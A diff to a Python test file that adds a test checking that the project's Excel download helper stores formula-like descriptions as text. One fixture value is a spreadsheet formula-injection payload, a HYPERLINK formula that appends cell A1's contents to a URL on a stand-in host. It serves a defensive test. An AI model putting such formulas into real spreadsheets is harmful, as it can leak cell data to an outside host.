@@ -32,3 +32,18 @@ def test_a_week_before_week_one_is_named_by_its_dates():
     assert week_of(date(2025, 12, 3), start).name == "第2周"
     old = week_of(date(2025, 3, 12), start)
     assert old.number < 1 and old.name == "2025.03.10–03.16（第1周前）" and "-" not in old.label.split("（")[0][:2]
+
+
+def test_page_downloads_store_formula_like_text_as_text():
+    """Every page's 下载 Excel: a description starting with = (from an uploaded file) is text, not a formula."""
+    import io
+    import zipfile
+
+    import pandas as pd
+
+    from campaign.ui import excel_bytes
+
+    data = excel_bytes(pd.DataFrame({"问题描述": ['=HYPERLINK("http://example.invalid/?x="&A1,"点此查看详情")',
+                                              "+1", "-2", "@SUM(A1)"]}))
+    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
